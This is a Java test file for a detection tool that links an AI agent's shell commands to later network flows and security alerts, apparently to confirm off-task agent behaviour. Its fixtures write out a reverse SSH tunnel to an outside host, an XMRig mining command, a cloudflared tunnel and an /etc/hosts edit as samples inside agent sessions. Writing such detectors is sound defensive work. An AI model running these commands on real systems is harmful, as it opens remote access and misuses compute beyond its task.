package dev.offscript.chains.join;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Allowed;
import dev.offscript.chains.Limits;
import dev.offscript.chains.Scene;
import dev.offscript.chains.Settings;
import dev.offscript.model.Behaviour;
import dev.offscript.model.ChainActor;
import dev.offscript.model.EventKind;
import dev.offscript.model.Grade;
import dev.offscript.model.Stage;
import dev.offscript.model.State;
import dev.offscript.model.TimeBasis;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** Which traffic and which alerts belong to an act, and which do not. */
class JoinsTest {

  private static final String TUNNEL = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9 -p 443";
  private static final String MINER = "./xmrig -o pool.example.net:3333";

  private static Scene tunnel(String session, int unit, double at, String address) {
    return tunnel(new Scene(), session, unit, at, address);
  }

  private static Scene tunnel(Scene scene, String session, int unit, double at, String address) {
    Scene.Told told = scene.session(session, unit).task("Fix the parser " + session);
    if (!address.isEmpty()) {
      told.at("", "", address);
    }
    return told.runs(at, "toolu_" + session + "a1b2c3d4", TUNNEL)
        .gets(at + 1, "toolu_" + session + "a1b2c3d4", "", 0)
        .scene();
  }

  private static long flows(Chain chain) {
    return chain.steps().stream().filter(s -> s.kind() == EventKind.FLOW).count();
  }

  private static Chain of(List<Chain> chains, String session) {
    return chains.stream().filter(c -> c.session().id().equals(session)).findFirst().orElseThrow();
  }

  @Test
  void anotherHostAtTheSameSecondIsAnotherHost() {
    Chain chain =
        tunnel("s1", 0, 20, "10.0.3.17")
            .flow(1, 21, 40, "10.0.3.99:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isZero();
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
  }

  @Test
  void anotherDestinationAtTheSameSecondIsAnotherThing() {
    Chain chain =
        tunnel("s1", 0, 20, "10.0.3.17")
            .flow(1, 20.1, 40, "10.0.3.17:5000", "203.0.113.77:443")
            .flow(1, 20.1, 40, "10.0.3.17:5000", "203.0.113.9:80")
            .chain();
    assertThat(flows(chain)).isZero();
  }

  @Test
  void behindASharedAddressTheOneThatNamesItHasIt() {
    Scene scene = tunnel("s1", 0, 20, "");
    scene.session("s2", 1).task("Other").runs(20, "toolu_zz1b2c3d4e5", MINER + " &").scene();
    List<Chain> chains =
        scene
            .inventory("node-1", "198.51.100.4", "s1")
            .inventory("node-1", "198.51.100.4", "s2")
            .flow(2, 21, 90, "198.51.100.4:6000", "203.0.113.9:443")
            .chains();
    assertThat(flows(of(chains, "s1"))).isEqualTo(1);
    assertThat(flows(of(chains, "s2"))).isZero();
  }

  @Test
  void whatFitsTwoSessionsIsJoinedWithNone() {
    Scene scene = tunnel(tunnel("s1", 0, 20, ""), "s2", 1, 22, "");
    List<Chain> chains = scene.flow(2, 25, 90, "198.51.100.4:6000", "203.0.113.9:443").chains();
    assertThat(chains).allMatch(c -> flows(c) == 0 && c.state() == State.EXECUTED);
    assertThat(chains)
        .allMatch(
            c ->
                c.notes()
                    .contains(
                        "traffic to 203.0.113.9:443 fits 2 sessions that name it at that time;"
                            + " joined with none"));
  }

  @Test
  void ofTwoSessionsTheOneThatActedJustBeforeHasIt() {
    Scene scene = tunnel(tunnel("s1", 0, 20, ""), "s2", 1, 2000, "");
    List<Chain> chains = scene.flow(2, 2001, 2090, "198.51.100.4:6000", "203.0.113.9:443").chains();
    assertThat(flows(of(chains, "s1"))).isZero();
    assertThat(flows(of(chains, "s2"))).isEqualTo(1);
  }

  @Test
  void thePrivateAddressTellsTwoSessionsApart() {
    Scene scene = tunnel(tunnel("s1", 0, 20, "10.0.3.17"), "s2", 1, 20, "10.0.3.18");
    List<Chain> chains =
        scene
            .flow(2, 21, 90, "10.0.3.18:6000", "203.0.113.9:443", "source.nat.ip=198.51.100.4")
            .chains();
    assertThat(flows(of(chains, "s1"))).isZero();
    assertThat(flows(of(chains, "s2"))).isEqualTo(1);
  }

  @Test
  void aDetachedCommandIsStillThereFortyMinutesLater() {
    Chain chain =
        tunnel("s1", 0, 20, "10.0.3.17")
            .flow(1, 2420, 2500, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    assertThat(chain.predicates().coincident().because())
        .isEqualTo(
            "flow starts 2400 s after the command, while the detached command was still running"
                + " (clock uncertainty 2.0 s)");
  }

  @Test
  void aKilledCommandIsNot() {
    Chain chain =
        tunnel("s1", 0, 20, "10.0.3.17")
            .session("s1", 0)
            .at("", "", "10.0.3.17")
            .task("Fix")
            .runs(20, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .runs(100, "toolu_s1a1b2c3d5", "pkill ssh")
            .gets(101, "toolu_s1a1b2c3d5", "", 0)
            .scene()
            .flow(1, 2420, 2500, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.notes()).contains("ended by: pkill ssh");
  }

  @Test
  void aFlowTooLateForAForegroundCommandIsANearMiss() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Train.")
            .runs(20, "toolu_s1a1b2c3d4", MINER)
            .gets(29, "toolu_s1a1b2c3d4", "speed 10s/60s/15m", 0)
            .scene()
            .flow(1, 100, 120, "10.0.3.17:5000", "pool.example.net:3333")
            .chain();
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.nearMisses())
        .containsExactly("flow to pool.example.net:3333 at +71 s: limit 60 s");
  }

  @Test
  void aFlowFromLongBeforeTheCommandIsNotItsTraffic() {
    Chain chain =
        tunnel("s1", 0, 800, "10.0.3.17")
            .flow(1, 200, 220, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isZero();
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.nearMisses())
        .containsExactly("flow to 203.0.113.9:443 600 s before the command");
  }

  @Test
  void onClocksThatNobodyComparedTheFarSideJoinsAndConfirmsNothing() {
    Chain chain =
        tunnel("s1", 0, 200, "10.0.3.17")
            .flow(1, 159, 180, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isEqualTo(1);
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).grade())
        .isEqualTo(Grade.C);
    assertThat(chain.predicates().coincident().value()).isEmpty();
    assertThat(chain.predicates().coincident().because())
        .isEqualTo(
            "flow 41 s before the command; one pair alone fits no clock; within the 120 s that two"
                + " unsynchronised clocks may differ");
  }

  @Test
  void onAClockThatOtherCommandsShowToBeRightItDoesNot() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(100, "toolu_s1a1b2c3d3", "curl https://mirror.example.org/a")
            .gets(101, "toolu_s1a1b2c3d3", "", 0)
            .runs(200, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(201, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .flow(1, 100.4, 102, "10.0.3.17:4999", "mirror.example.org:443")
            .flow(1, 159, 180, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isZero();
    assertThat(chain.nearMisses())
        .containsExactly("flow to 203.0.113.9:443 41 s before the command");
  }

  @Test
  void whatAnotherCommandExplainsAtThatTimeIsNot() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(158, "toolu_s1a1b2c3d3", "nc -zv 203.0.113.9 443")
            .gets(159, "toolu_s1a1b2c3d3", "", 0)
            .runs(200, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(201, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .flow(1, 159, 180, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isZero();
  }

  @Test
  void aClockThatIsSetIsNotDoubted() {
    Chain chain =
        tunnel("s1", 0, 200, "10.0.3.17")
            .settings(new Settings(Allowed.NOTHING, List.of(), Set.of(1), Limits.DEFAULT))
            .flow(1, 159, 180, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(flows(chain)).isZero();
  }

  @Test
  void onClocksThatNobodyComparedTwoThatActedWithinTwoMinutesAreRivals() {
    List<Chain> chains =
        tunnel(tunnel("s1", 0, 20, ""), "s2", 1, 120, "")
            .flow(2, 121, 190, "198.51.100.4:6000", "203.0.113.9:443")
            .chains();
    assertThat(chains).allMatch(c -> flows(c) == 0);
  }

  @Test
  void anAlertSpeaksOfManyPackets() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Train.")
            .runs(500, "toolu_s1a1b2c3d4", MINER + " &")
            .gets(501, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .alert(
                1,
                400,
                4000,
                "Pool traffic",
                Behaviour.MINING,
                "10.0.3.17",
                "198.51.100.7:3333",
                "destination.domain=pool.example.net",
                "event.count=17")
            .chain();
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    Step alert = chain.steps().get(chain.steps().size() - 1);
    assertThat(alert.stage()).isEqualTo(Stage.ALERT);
    assertThat(alert.summary()).endsWith("17 times");
  }

  @Test
  void aLateAlertIsANearMiss() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Train.")
            .runs(20, "toolu_s1a1b2c3d4", MINER)
            .gets(30, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .alert(
                1, 701, 702, "Pool traffic", Behaviour.MINING, "10.0.3.17", "pool.example.net:3333")
            .chain();
    assertThat(chain.nearMisses()).containsExactly("alert 'Pool traffic' at +671 s: limit 600 s");
  }

  private static Chain minerAfter(String command, String output) {
    return new Scene()
        .session("s1", 0)
        .task("Train.")
        .runs(10, "toolu_s1a1b2c3d1", command)
        .gets(11, "toolu_s1a1b2c3d1", output, 0)
        .runs(20, "toolu_s1a1b2c3d4", MINER + " &")
        .scene()
        .flow(1, 21, 90, "10.0.3.17:5000", "198.51.100.7:3333")
        .chain();
  }

  @Test
  void whatTheRunItselfResolvedIsTheSameFarSide() {
    assertThat(
            List.of(
                minerAfter(
                    "nslookup pool.example.net",
                    "Server: 10.0.0.2\nAddress: 10.0.0.2#53\n\nName: pool.example.net\n"
                        + "Address: 198.51.100.7\n"),
                minerAfter(
                    "dig pool.example.net",
                    ";; ANSWER SECTION:\npool.example.net. 60 IN CNAME edge.example.org.\n"
                        + "edge.example.org. 60 IN A 198.51.100.7\n"),
                minerAfter(
                    "getent ahosts pool.example.net", "198.51.100.7 STREAM\n198.51.100.7 RAW"),
                minerAfter(
                    "ping -c1 pool.example.net", "PING pool.example.net (198.51.100.7) 56(84)"),
                minerAfter("echo '198.51.100.7 x.example.org pool.example.net' >> /etc/hosts", ""),
                minerAfter("cat /etc/hosts", "127.0.0.1 localhost\n198.51.100.7 pool.example.net"),
                minerAfter(
                    "python3 -c \"import socket;print(socket.gethostbyname('pool.example.net'))\"",
                    "198.51.100.7")))
        .allMatch(chain -> flows(chain) == 1)
        .allMatch(chain -> chain.state() == State.NETWORK_CONFIRMED);
    assertThat(
            flows(
                minerAfter(
                    "nslookup pool.example.net",
                    "Server: 198.51.100.7\nAddress: 198.51.100.7#53\n\n** can't find it\n")))
        .isZero();
  }

  @Test
  void anAddressIsTheSameHoweverItIsSpelled() {
    for (String spelled :
        List.of("0xcb007109", "3405803785", "0313.0.0x71.9", "::ffff:203.0.113.9")) {
      Chain chain =
          new Scene()
              .session("s1", 0)
              .task("Fix.")
              .runs(
                  20, "toolu_s1a1b2c3d4", "ssh -fN -R 7022:localhost:22 svc@" + spelled + " -p 443")
              .gets(21, "toolu_s1a1b2c3d4", "", 0)
              .scene()
              .flow(1, 21, 90, "10.0.3.17:5000", "203.0.113.9:443")
              .chain();
      assertThat(flows(chain)).as(spelled).isEqualTo(1);
    }
  }

  @Test
  void whereNoFarSideIsNamedTheServiceOfTheToolIsTheFarSide() {
    Scene scene =
        new Scene()
            .session("s1", 0)
            .at("", "", "10.0.3.17")
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", "cloudflared tunnel --url http://localhost:8888 &")
            .scene()
            .lookup(1, 20.3, "region1.v2.argotunnel.com", "198.51.100.7")
            .flow(1, 20.6, 90, "10.0.3.17:5000", "198.51.100.7:7844");
    assertThat(flows(scene.chain())).isEqualTo(1);
    // It is everybody's: away from the time of the command it is not the command's.
    assertThat(flows(scene.flow(1, 3, 9, "10.0.3.17:5001", "198.51.100.7:7844").chain()))
        .isEqualTo(1);
  }

  @Test
  void aNameAndItsAddressAreOneFarSide() {
    Scene byDns =
        new Scene()
            .session("s1", 0)
            .task("Train.")
            .runs(20, "toolu_s1a1b2c3d4", MINER + " &")
            .scene()
            .lookup(1, 20.1, "pool.example.net", "198.51.100.7")
            .flow(1, 20.3, 90, "10.0.3.17:5000", "198.51.100.7:3333");
    assertThat(flows(byDns.chain())).isEqualTo(1);
    Scene byResolver =
        new Scene()
            .session("s1", 0)
            .task("Train.")
            .runs(18, "toolu_s1a1b2c3d3", "getent hosts pool.example.net")
            .gets(19, "toolu_s1a1b2c3d3", "198.51.100.7    pool.example.net", 0)
            .runs(20, "toolu_s1a1b2c3d4", MINER + " &")
            .scene()
            .flow(1, 20.3, 90, "10.0.3.17:5000", "198.51.100.7:3333");
    Chain chain = byResolver.chain();
    assertThat(flows(chain)).isEqualTo(1);
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).because())
        .contains("same far side 198.51.100.7 (resolver output for pool.example.net)");
  }

  @Test
  void withoutATimeTheValueAloneGivesTheWeakestLink() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(Double.NaN, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(Double.NaN, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .flow(1, 21, 90, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    assertThat(chain.predicates().coincident().value()).isEmpty();
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).grade())
        .isEqualTo(Grade.D);
  }

  @Test
  void theWindowOfAnEpisodeGivesTheThirdGrade() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(0, 900, TimeBasis.WINDOW, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(Double.NaN, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .flow(1, 421, 490, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).grade())
        .isEqualTo(Grade.C);
  }

  @Test
  void anExecutionRecordGivesTheFirstGrade() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .exec(3, 20.2, "sbx-1", TUNNEL)
            .exec(3, 20.2, "sbx-2", "pytest -q")
            .flow(1, 20.4, 90, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(chain.steps()).extracting(Step::kind).contains(EventKind.EXEC);
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).grade())
        .isEqualTo(Grade.A);
  }

  @Test
  void anExecutionRecordOfAnotherHostIsAnotherDeed() {
    List<Chain> chains =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .exec(3, 20.2, "sbx-2", TUNNEL)
            .chains();
    assertThat(chains).hasSize(2);
    assertThat(of(chains, "").session().host()).isEqualTo("sbx-2");
  }

  @Test
  void aDeniedFlowBlocksIt() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(
                30,
                "toolu_s1a1b2c3d4",
                "ssh: connect to host 203.0.113.9 port 443: Connection timed out",
                255)
            .scene()
            .flow(1, 21, 21, "10.0.3.17:5000", "203.0.113.9:443", "event.action=denied")
            .chain();
    assertThat(chain.blocked()).isTrue();
    assertThat(chain.state()).isEqualTo(State.ATTEMPTED);
    assertThat(chain.steps()).extracting(Step::stage).endsWith(Stage.EGRESS);
  }

  @Test
  void anAlertThatNamesNoFarSideOfTheCommandJoinsByHostAndTime() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .at("sbx-1", "", "10.0.3.17")
            .task("Train.")
            .runs(20, "toolu_s1a1b2c3d4", "./xmrig -c config.json &")
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .alert(1, 30, 90, "Pool traffic", Behaviour.MINING, "10.0.3.17", "198.51.100.7:3333")
            .chain();
    assertThat(chain.title()).isEqualTo("XMRig miner to 198.51.100.7:3333");
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
  }

  @Test
  void aPersonsCommandAndWhatItStartedAreOneDeed() {
    Chain chain =
        new Scene()
            .inventory("build-2", "10.60.0.2", "")
            .history(3, 20, "build-2", "ssh -fN -R 2201:localhost:22 ops@203.0.113.88")
            .exec(4, 20.2, "build-2", "ssh -fN -R 2201:localhost:22 ops@203.0.113.88")
            .exec(4, 20.3, "build-2", "ssh -R 2201:localhost:22 ops@203.0.113.88 -v")
            .flow(5, 21, 60, "10.60.0.2:5000", "203.0.113.88:22")
            .chain();
    assertThat(chain.actor()).isEqualTo(dev.offscript.model.ChainActor.HUMAN);
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
    assertThat(chain.steps())
        .extracting(Step::kind)
        .containsExactly(EventKind.COMMAND, EventKind.EXEC, EventKind.EXEC, EventKind.FLOW);
    assertThat(chain.steps().get(3).links().get(0).grade()).isEqualTo(Grade.A);
  }

  @Test
  void whatWasKilledCausesNothingLater() {
    Scene scene =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .begins(20, "toolu_s1a1b2c3d4", MINER + " &")
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .begins(30, "toolu_s1e5f6a7b8", "pkill xmrig")
            .gets(31, "toolu_s1e5f6a7b8", "", 0)
            .scene();
    assertThat(flows(scene.flow(1, 7200, 7300, "10.0.3.17:5000", "pool.example.net:3333").chain()))
        .isZero();
  }

  @Test
  void theFarSideThatOnlyTheOutputNamesIsJoined() {
    Chain chain =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", "./xmrig -c /tmp/c & ; sleep 5 ; tail -n 1 /tmp/log")
            .gets(27, "toolu_s1a1b2c3d4", "net new job from 203.0.113.40:3333 diff 100", 0)
            .scene()
            .flow(1, 21, 900, "10.0.3.17:5000", "203.0.113.40:3333")
            .chain();
    assertThat(flows(chain)).isEqualTo(1);
    assertThat(chain.state()).isEqualTo(State.NETWORK_CONFIRMED);
  }

  @Test
  void aPersonWhoTypesTheSameLaterDidItToo() {
    Scene scene =
        new Scene()
            .session("s1", 0)
            .at("node-1", "")
            .task("Fix.")
            .begins(20, "toolu_s1a1b2c3d4", TUNNEL)
            .gets(21, "toolu_s1a1b2c3d4", "", 0)
            .scene()
            .history(1, 3620, "node-1", TUNNEL);
    assertThat(scene.chains())
        .extracting(Chain::actor)
        .containsExactlyInAnyOrder(ChainActor.AGENT, ChainActor.HUMAN);
  }

  @Test
  void theChainOfASpawnedSessionBeginsWithTheTaskOfItsParent() {
    Scene scene = new Scene();
    scene.session("s1", 0).task("Fix the parser.");
    scene
        .session("s2", 1)
        .is(s -> s.withParent("s1"))
        .told("List the callers of the parser.")
        .runs(20, "toolu_s1a1b2c3d4", TUNNEL)
        .gets(21, "toolu_s1a1b2c3d4", "", 0);
    assertThat(scene.inventory("node-1", "10.0.3.17", "s1").chain())
        .satisfies(c -> assertThat(c.session().host()).isEqualTo("node-1"))
        .extracting(c -> c.steps().stream().limit(2).map(Step::summary).toList())
        .isEqualTo(List.of("Fix the parser.", "List the callers of the parser."));
  }

  @Test
  void whoseTheTranslatedAddressIsSaysNothingAgainstTheOneBehindIt() {
    Scene scene =
        tunnel("s1", 0, 20, "")
            .inventory("node-1", "10.0.3.17", "s1")
            .inventory("node-1", "10.0.3.17", "s2")
            .inventory("node-2", "198.51.100.4", "");
    assertThat(
            flows(
                scene
                    .flow(
                        1,
                        21,
                        40,
                        "10.0.3.17:5000",
                        "203.0.113.9:443",
                        "source.nat.ip=198.51.100.4")
                    .chain()))
        .isEqualTo(1);
  }

  @Test
  void whatATimeLimitEndedCausesNothingLater() {
    Scene scene =
        new Scene()
            .session("s1", 0)
            .task("Fix.")
            .runs(20, "toolu_s1a1b2c3d4", "ssh -N -R 7022:localhost:22 svc@203.0.113.9")
            .gets(22, "toolu_s1a1b2c3d4", "", 124)
            .scene()
            .flow(1, 93, 900, "10.0.3.17:5000", "203.0.113.9:22");
    Chain chain = scene.chain();
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
    assertThat(chain.predicates().coincident().value()).isEmpty();
    assertThat(chain.nearMisses()).hasSize(1);
  }
}
